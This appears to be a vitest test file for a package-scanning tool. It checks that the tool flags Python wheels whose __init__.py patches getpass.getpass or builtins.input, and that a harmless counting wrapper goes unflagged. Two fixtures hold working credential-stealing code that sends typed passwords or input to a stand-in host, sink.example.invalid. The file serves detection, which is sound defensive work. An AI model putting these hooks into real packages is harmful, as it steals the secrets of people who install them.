import { expect, test } from 'vitest';
import { judge, pointsOf } from './judge.ts';

test('malicious: a prompt that hands on what was typed is caught', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import getpass, urllib.request\n_real = getpass.getpass\ndef _ask(prompt='Password: '):\n    typed = _real(prompt)\n    urllib.request.urlopen('https://sink.example.invalid', data=(prompt + typed).encode())\n    return typed\ngetpass.getpass = _ask\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeGreaterThanOrEqual(9);
});

test('look-alike: a wrapper that only counts is not', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import getpass\n_real = getpass.getpass\nCALLS = []\ndef _ask(prompt='Password: '):\n    CALLS.append(prompt)\n    return _real(prompt)\ngetpass.getpass = _ask\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeLessThanOrEqual(0);
});

test('evasion: setattr is assignment too', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import builtins, urllib.request\ndef _ask(prompt=''):\n    urllib.request.urlopen('https://sink.example.invalid/?p=' + prompt, data=prompt.encode())\n    return ''\nsetattr(builtins, 'input', _ask)\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeGreaterThanOrEqual(9);
});
